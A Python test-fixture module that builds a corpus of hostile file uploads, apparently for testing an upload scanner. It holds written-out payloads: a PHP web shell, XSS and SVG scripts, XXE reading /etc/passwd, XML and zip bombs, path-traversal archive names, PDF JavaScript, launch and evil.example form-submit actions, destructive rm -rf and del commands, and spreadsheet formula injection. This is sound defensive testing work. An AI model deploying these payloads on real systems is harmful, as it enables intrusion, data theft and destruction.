"""Builds the hostile uploads: each a name, the bytes, and what is wrong with them."""

import base64
import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00" + b"PE\x00\x00" * 8
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 56
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 512
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00"
# The scanners' test file, kept in two halves so that no scanner objects to this source.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.domain)</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
MEGABYTE = 1_048_576


@dataclass(frozen=True)
class Hostile:
    """One upload and why no reviewer may ever open it."""

    label: str
    name: str
    content: bytes


@cache
def corpus() -> tuple[Hostile, ...]:
    """Return every hostile upload; building them takes seconds, so nothing asks while importing."""
    return (*lies(), *pictures(), *pdfs(), *archives(), *texts())


# --- The name says one thing, the bytes another


def lies() -> Iterator[Hostile]:
    bodies = {"html": PAGE, "svg": SVG, "elf": ELF, "mz": PE, "gif": GIF, "ole": OLE, "xml": LAUGHS}
    for ending in ("png", "jpg", "pdf", "zip", "json", "ipynb"):
        for kind, body in bodies.items():
            yield Hostile(f"{kind}-as-{ending}", f"report.{ending}", body)
    for kind in ("html", "svg", "elf", "mz"):
        for ending in ("txt", "md", "csv"):
            if kind in {"elf", "mz"} or ending != "csv":
                yield Hostile(f"{kind}-as-{ending}", f"report.{ending}", bodies[kind])
    endings = "svg html htm xhtml xml php js exe dll scr com bat cmd ps1 vbs lnk hta jar msi docm"
    for ending in [*endings.split(), "xlsm", "doc", "rtf", "gif", "webp", "iso", "7z", "gz", "url"]:
        yield Hostile(f"ending-{ending}", f"report.{ending}", b"anything at all")
    for label, name in {
        "no-ending": "report",
        "ending-alone": "png",
        "double-ending": "report.png.exe",
        "right-to-left": "report\u202egnp.exe.png",
        "nul-in-name": "report.php\x00.png",
        "line-end-in-name": "report\r\nX-Header: 1.png",
        "trailing-dot": "report.png.",
        "trailing-blank": "report.png ",
        "stream-name": "report.png::$DATA",
    }.items():
        yield Hostile(label, name, png())
    yield Hostile("lnk-as-pdf", "report.pdf", LNK)
    yield Hostile("mach-o-as-png", "report.png", MACH_O)
    yield Hostile("empty", "report.pdf", b"")
    yield Hostile("eicar-as-txt", "report.txt", EICAR)
    yield Hostile("eicar-as-csv", "report.csv", EICAR)


# --- Pictures


@cache
def png(width: int = 8, height: int = 8) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(kept, "PNG")
    return kept.getvalue()


@cache
def jpeg(width: int = 8, height: int = 8, **options) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(kept, "JPEG", **options)
    return kept.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def flood(width: int, height: int) -> bytes:
    """A PNG that says it is huge and hardly has a byte."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * min(width * 3, 1_000_000))
    return png()[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def with_chunk(name: bytes, body: bytes) -> bytes:
    whole = png()
    return whole[:33] + chunk(name, body) + whole[33:]


def with_comment(body: bytes) -> bytes:
    """A JPEG with a comment segment behind its start."""
    whole = jpeg()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + whole[2:]


def jpeg_flood(width: int, height: int) -> bytes:
    whole = bytearray(jpeg())
    frame = whole.index(b"\xff\xc0")
    whole[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def pictures() -> Iterator[Hostile]:
    packed = zipped({"index.html": PAGE})
    yield Hostile("gifar", "report.gif", GIF + packed)
    for ending, picture in (("png", png()), ("jpg", jpeg())):
        yield Hostile(f"{ending}-and-zip", f"report.{ending}", picture + packed)
        yield Hostile(f"{ending}-and-jar", f"report.{ending}", picture + zipped(JAR))
        yield Hostile(f"{ending}-and-php", f"report.{ending}", picture + PHP)
        yield Hostile(f"{ending}-and-script", f"report.{ending}", picture + SCRIPT)
        yield Hostile(f"{ending}-and-pdf", f"report.{ending}", picture + pdf())
        yield Hostile(f"{ending}-and-program", f"report.{ending}", picture + PE)
        yield Hostile(f"{ending}-cut", f"report.{ending}", picture[:-20])
        yield Hostile(f"{ending}-start-alone", f"report.{ending}", picture[:12])
    yield Hostile("zip-before-png", "report.png", packed + png())
    yield Hostile("jpeg-as-png", "report.png", jpeg())
    yield Hostile("png-as-jpeg", "report.jpg", png())
    yield Hostile("php-in-jpeg-comment", "report.jpg", with_comment(PHP))
    yield Hostile("script-in-jpeg-comment", "report.jpg", with_comment(SCRIPT))
    yield Hostile("pdf-in-jpeg-comment", "report.jpg", with_comment(b"%PDF-1.7\n1 0 obj"))
    yield Hostile("php-in-png-text", "report.png", with_chunk(b"tEXt", b"Comment\0" + PHP))
    yield Hostile("svg-in-png-text", "report.png", with_chunk(b"iTXt", SVG))
    yield Hostile("zip-in-png-chunk", "report.png", with_chunk(b"zzZz", packed))
    yield Hostile("wrong-checksum", "report.png", png().replace(b"IDAT", b"IDAX"))
    yield Hostile("text-bomb", "report.png", with_chunk(b"zTXt", text_bomb()))
    for side in (5_001, 20_000, 65_500, 2**31 - 1):
        yield Hostile(f"png-flood-{side}", "report.png", flood(side, side))
    for side in (5_001, 40_000, 65_500):
        yield Hostile(f"jpeg-flood-{side}", "report.jpg", jpeg_flood(side, side))
    yield Hostile("no-pixels", "report.png", flood(0, 0))


def text_bomb() -> bytes:
    return b"Comment\0\0" + zlib.compress(b"\0" * 80 * MEGABYTE, 9)


# --- PDF


def pdf(catalogue: bytes = b"", more: bytes = b"") -> bytes:
    """A document of one empty page, with something more in its catalogue or behind it."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>\nendobj\n"
        + more
        + b"\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )


def stream(body: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(body, 9) if b"Flate" in head else body
    return (
        b"9 0 obj\n<< " + head + b" /Length %d >>\nstream\n" % len(packed) + packed
        + b"\nendstream\nendobj\n"
    )  # fmt: skip


def pdfs() -> Iterator[Hostile]:
    for label, catalogue in {
        "javascript": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "javascript-escaped": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        "javascript-all-escaped": b"/A << /S /#4A#61#76#61#53#63#72#69#70#74 >>",
        "javascript-tree": b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>",
        "js-alone": b"/OpenAction << /JS 9 0 R >>",
        "additional-actions": b"/AA << /WC 9 0 R >>",
        "launch": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        "launch-escaped": b"/OpenAction << /S /L#61unch /F (cmd.exe) >>",
        "embedded-files": b"/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>",
        "embedded-file": b"/AF [<< /Type /Filespec /EF << /F 9 0 R >> >>]",
        "submit-form": b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
        "import-data": b"/OpenAction << /S /ImportData >>",
        "rich-media": b"/Annots [<< /Subtype /RichMedia >>]",
        "xfa": b"/AcroForm << /XFA 9 0 R >>",
        "go-to-embedded": b"/OpenAction << /S /GoToE >>",
        "go-to-remote": b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
        "movie": b"/Annots [<< /Subtype /Movie >>]",
        "locked": b"/Encrypt 9 0 R",
    }.items():
        yield Hostile(f"pdf-{label}", "report.pdf", pdf(catalogue))
    action = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = stream(action, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    yield Hostile("pdf-javascript-packed", "report.pdf", pdf(more=packed))
    plain = stream(action, b"/Type /ObjStm /N 1 /First 4")
    yield Hostile("pdf-javascript-in-stream", "report.pdf", pdf(more=plain))
    file = stream(b"MZ", b"/Type /EmbeddedFile")
    yield Hostile("pdf-file-inside", "report.pdf", pdf(more=file))
    bomb = stream(b"\0" * 120 * MEGABYTE)
    yield Hostile("pdf-bomb", "report.pdf", pdf(more=bomb))
    yield Hostile("pdf-late", "report.pdf", b"\n" * 600 + pdf())
    yield Hostile("pdf-after-html", "report.pdf", PAGE + pdf())
    yield Hostile("pdf-after-mz", "report.pdf", PE + pdf())
    yield Hostile("pdf-and-zip", "report.pdf", pdf() + zipped({"a.html": PAGE}))
    yield Hostile("pdf-around-zip", "report.pdf", pdf(more=zipped({"a.html": PAGE})))
    yield Hostile("pdf-and-script", "report.pdf", pdf() + SCRIPT)
    yield Hostile("pdf-no-end", "report.pdf", pdf()[:-8])
    yield Hostile("pdf-head-alone", "report.pdf", b"%PDF-1.7\n")
    yield Hostile("fdf", "report.pdf", b"%FDF-1.2\n%%EOF")


# --- Archives

JAR = {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}


def zipped(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED, mode: int = 0) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as archive:
        for name, body in files.items():
            entry = zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6))
            entry.compress_type, entry.external_attr = method, mode << 16
            archive.writestr(entry, body)
    return kept.getvalue()


def patched(whole: bytes, *, size: int, packed: int | None = None) -> bytes:
    """The same archive, whose list says another size for its first file."""
    at = whole.index(b"PK\x01\x02")
    head = bytearray(whole)
    head[at + 24 : at + 28] = struct.pack("<I", size)
    if packed is not None:
        head[at + 20 : at + 24] = struct.pack("<I", packed)
    return bytes(head)


def flagged(whole: bytes, flag: int) -> bytes:
    """The same archive with one more flag on its first file, in both headers."""
    head, at = bytearray(whole), whole.index(b"PK\x01\x02")
    head[6] |= flag
    head[at + 8] |= flag
    return bytes(head)


def overlapping() -> bytes:
    """Two names for the same packed bytes (Fifield, A better zip bomb, 2019)."""
    whole = zipped({"a.txt": b"text" * 20, "b.txt": b"y"}, method=zipfile.ZIP_STORED)
    second = whole.rindex(b"PK\x01\x02")
    head = bytearray(whole)
    head[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(head)


def renamed() -> bytes:
    """The list says a.txt, the file's own header says b.exe."""
    return b"b.exe".join(zipped({"a.txt": b"text"}).split(b"a.txt", 1))


def short_list() -> bytes:
    """The end record says one file, the list has three hundred."""
    whole = bytearray(zipped({f"{n}.txt": b"x" for n in range(300)}))
    whole[-14:-10] = struct.pack("<HH", 1, 1)
    return bytes(whole)


def archives() -> Iterator[Hostile]:
    def of(label: str, content: bytes) -> Hostile:
        return Hostile(f"zip-{label}", "work.zip", content)

    text = zipped({"a.txt": b"text"})
    for label, name in {
        "up": "../../etc/cron.d/x",
        "up-inside": "a/../../x",
        "absolute": "/etc/passwd",
        "drive": "C:/Windows/x.dll.txt",
        "backslash": "..\\..\\x.txt",
        "control": "a\x1b[2Jb.txt",
        "right-to-left": "a\u202etxt.exe.md",
        "dot": "..",
    }.items():
        yield of(f"name-{label}", zipped({name: b"text"}))
    yield of("symlink", zipped({"a": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777))
    yield of("device", zipped({"a": b"x"}, mode=stat.S_IFCHR | 0o600))
    yield of("pipe", zipped({"a": b"x"}, mode=stat.S_IFIFO | 0o600))
    yield of("201-files", zipped({f"{n}.txt": b"x" for n in range(201)}))
    yield of("100000-files", many_files())
    yield of("short-list", short_list())
    yield of("bomb-200-mb", zipped({"a.txt": b"\0" * 200 * MEGABYTE}))
    yield of("bomb-many", zipped({f"{n}.bin": b"\0" * 4 * MEGABYTE for n in range(30)}))
    yield of("ratio", zipped({"a.txt": b"\0" * 5 * MEGABYTE, "b.txt": b"text"}))
    yield of("size-lie", patched(text, size=2**31))
    yield of("size-lie-small", patched(zipped({"a.txt": b"\0" * MEGABYTE}), size=10))
    yield of("packed-lie", patched(text, size=4, packed=2**30))
    yield of("overlap", overlapping())
    yield of("two-names", renamed())
    yield of("locked", flagged(text, 0x1))
    yield of("nested", zipped({"inner.zip": text}))
    yield of("nested-quine", zipped({"a/b/r.zip": text, "c.txt": b"x"}))
    for ending in ("7z", "rar", "tar.gz", "jar", "iso"):
        yield of(f"nested-{ending}", zipped({f"inner.{ending}": b"x" * 20}))
    for ending in ("exe", "lnk", "scr", "docm", "xlsm", "hta"):
        yield of(f"holds-{ending}", zipped({f"inner.{ending}": b"x" * 20}))
    yield of("jar", zipped(JAR))
    yield of("docx", zipped({"[Content_Types].xml": XXE, "word/document.xml": XXE}))
    yield of("macro", zipped({"word/vbaProject.bin": OLE}))
    yield of("apk", zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"}))
    yield of("bzip2", zipped({"a.txt": b"text" * 50}, method=zipfile.ZIP_BZIP2))
    yield of("lzma", zipped({"a.txt": b"text" * 50}, method=zipfile.ZIP_LZMA))
    yield of("same-name", twice("a.txt", "a.txt"))
    yield of("same-name-other-case", twice("a.txt", "A.TXT"))
    yield of("after-script", SCRIPT + text)
    yield of("after-program", PE + text)
    yield of("before-script", text + SCRIPT)
    yield of("script-in-comment", commented(SCRIPT))
    yield of("long-comment", commented(b"x" * 5_000))
    yield of("empty", b"PK\x05\x06" + b"\0" * 18)
    yield of("only-folders", zipped({"a/": b"", "b/": b""}))
    yield of("cut", text[:-30])
    yield of("gap", gapped())
    yield Hostile("macro-docm-as-zip-pdf", "report.pdf", zipped({"word/vbaProject.bin": OLE}))


def twice(*names: str) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), b"text")
    return kept.getvalue()


def commented(comment: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("a.txt", b"text")
        archive.comment = comment
    return kept.getvalue()


def gapped() -> bytes:
    """Bytes nobody lists, between the files and their list."""
    whole, hidden = zipped({"a.txt": b"text"}), PE * 2
    at = whole.index(b"PK\x01\x02")
    end = bytearray(whole[at:])
    end[-6:-2] = struct.pack("<I", at + len(hidden))
    return whole[:at] + hidden + bytes(end)


def many_files() -> bytes:
    """A list of a hundred thousand files that are all the same one."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
    )
    rows = b"".join(entry + b"a" for _ in range(100_000))
    total = 100_000 & 0xFFFF
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, total, total, len(rows), len(local), 0)
    return local + rows + end


# --- Text


def texts() -> Iterator[Hostile]:
    yield Hostile("php-as-txt", "notes.txt", PHP)
    yield Hostile("shell-as-txt", "notes.txt", b"#!/bin/sh\nrm -rf ~\n")
    yield Hostile("batch-as-txt", "notes.txt", b"@echo off\r\ndel /s c:\\\r\n")
    yield Hostile("xml-bomb-as-txt", "notes.txt", LAUGHS)
    yield Hostile("xxe-as-md", "notes.md", XXE)
    yield Hostile("page-behind-blanks", "notes.md", b"\n \t" + PAGE)
    yield Hostile("page-behind-mark", "notes.md", "\ufeff".encode() + PAGE)
    yield Hostile("mhtml-as-txt", "notes.txt", b"MIME-Version: 1.0\nContent-Type: multipart/x")
    yield Hostile("url-file-as-txt", "notes.txt", b"[InternetShortcut]\nURL=file://evil/x")
    yield Hostile("rtf-as-txt", "notes.txt", b"{\\rtf1{\\object\\objocx}}")
    yield Hostile("nul-in-text", "notes.txt", b"text\x00more")
    yield Hostile("terminal-codes", "notes.md", b"\x1b]0;title\x07text")
    yield Hostile("utf-16", "notes.txt", "text".encode("utf-16"))
    yield Hostile("utf-7", "notes.txt", b"\x80+ADw-script+AD4-")
    for cell in (b"=cmd|'/C calc'!A0", b"@SUM(1)", b'"+HYPERLINK(""x"")"', b"-2+3+cmd|' /C'!A0"):
        yield Hostile(f"formula-{cell[:4].decode()}", "eval.csv", b"case,score\n1," + cell)
    yield Hostile("csv-one-line", "eval.csv", b"a," * 2_000_000)
    yield Hostile("csv-open-quote", "eval.csv", b'a,"' + b"x\n" * 300_000)
    yield Hostile("json-deep", "eval.json", b"[" * 200_000)
    yield Hostile("json-deep-objects", "eval.json", b'{"a":' * 100_000)
    yield Hostile("json-many", "eval.json", b"[" + b"[]," * 3_000_000 + b"[]]")
    yield Hostile("json-huge-number", "eval.json", b"[" + b"9" * 500_000 + b"]")
    yield Hostile("json-script", "eval.json", SCRIPT)
    yield Hostile("notebook-no-cells", "run.ipynb", b'{"nbformat": 4}')
    yield Hostile("notebook-list", "run.ipynb", b"[1, 2]")
    yield Hostile("notebook-script", "run.ipynb", notebook({"application/javascript": "alert(1)"}))
    yield Hostile("notebook-odd-cells", "run.ipynb", b'{"nbformat": 4, "cells": ["x"]}')
    yield Hostile("too-large", "notes.txt", b"x" * (20 * MEGABYTE + 1))


def notebook(data: dict[str, str]) -> bytes:
    cell = {"cell_type": "code", "outputs": [{"output_type": "display_data", "data": data}]}
    return json.dumps({"nbformat": 4, "cells": [cell]}).encode()


# --- Pictures as honest people send them


def tagged_pictures() -> list[tuple[str, bytes]]:
    """Return thirty pictures with place, camera, author and comment, and their names."""
    tags = {0x010F: "CanaryCamera", 0x013B: "CanaryAuthor", 0x0110: "CanaryModel"}
    exif = Image.Exif()
    for number, value in tags.items():
        exif[number] = value
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 17.0)})
    found = []
    for number in range(15):
        side = 40 + number
        picture = jpeg(side, 40, exif=exif.tobytes(), comment=b"CanaryComment")
        found.append((f"photo-{number}.jpg", picture))
        shot = with_chunk(b"tEXt", b"Author\0CanaryAuthor")
        shot = shot[:33] + chunk(b"eXIf", exif.tobytes()[6:]) + shot[33:]
        found.append((f"shot-{number}.png", shot))
    return found


ONE_PIXEL = base64.b64encode(png(1, 1)).decode()
